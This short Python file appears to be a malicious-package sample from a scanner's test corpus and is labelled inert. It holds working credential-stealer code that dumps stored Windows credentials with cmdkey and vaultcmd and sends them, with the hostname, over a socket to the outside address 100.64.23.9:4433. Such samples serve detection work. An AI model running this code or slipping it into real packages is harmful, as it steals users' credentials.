# pkgguard corpus 760 (credentials), modelled on [stealer-profile]; inert, never run.
import socket
import subprocess
import sys

if sys.platform == "win32":
    listing = subprocess.run(["cmdkey", "/list"], capture_output=True, text=True).stdout
    vault = subprocess.run(["vaultcmd", "/listcreds:Windows Credentials", "/all"], capture_output=True, text=True).stdout
    with socket.create_connection(("100.64.23.9", 4433), timeout=10) as conn:
        conn.sendall(f"{socket.gethostname()}\n{listing}\n{vault}".encode())
